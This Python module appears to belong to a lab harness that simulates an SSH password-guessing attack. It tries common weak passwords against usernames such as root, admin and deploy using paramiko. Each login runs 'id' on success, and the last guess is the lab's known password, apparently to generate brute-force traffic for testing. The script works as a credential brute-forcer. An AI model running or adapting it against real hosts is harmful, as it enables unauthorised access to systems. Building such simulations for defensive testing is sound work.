"""The password guesser: one SSH login per guess; the last one opens.

`python -m lab.guesser HOST TRIES PAUSE_S` prints one line per guess: `user outcome`.
"""

from __future__ import annotations

import logging
import sys
import time

import paramiko

from lab import world

NAMES = ("admin", "root", "backup", "deploy", "svc-deploy")
STEMS = (
    "Password",
    "Welcome",
    "Summer",
    "Winter",
    "Brightwater",
    "Spring",
    "Deploy",
    "Admin",
    "Changeme",
)


def guesses(tries: int) -> list[tuple[str, str]]:
    """The list in the order it is tried; the right pair comes last."""
    words = [
        f"{stem}{tail}"
        for tail in ("1", "123", "2025", "2026", "2025!", "123!", "#1")
        for stem in STEMS
    ]
    wrong = [(NAMES[at % len(NAMES)], word) for at, word in enumerate(words)][: tries - 1]
    return [*wrong, ("svc-deploy", world.PASSWORDS["svc-deploy"])]


def main() -> None:
    """Guess."""
    logging.getLogger("paramiko").setLevel(logging.CRITICAL)
    host, tries, pause_s = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    for user, password in guesses(tries):
        client = paramiko.SSHClient()
        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())  # noqa: S507 - so do guessers
        try:
            client.connect(
                host,
                username=user,
                password=password,
                look_for_keys=False,
                allow_agent=False,
                timeout=15,
                auth_timeout=15,
            )
            client.exec_command("id")[1].read()
            print(user, "opened", flush=True)
        except (paramiko.SSHException, OSError) as refusal:
            print(user, type(refusal).__name__, flush=True)
        finally:
            client.close()
        time.sleep(pause_s)


if __name__ == "__main__":
    main()
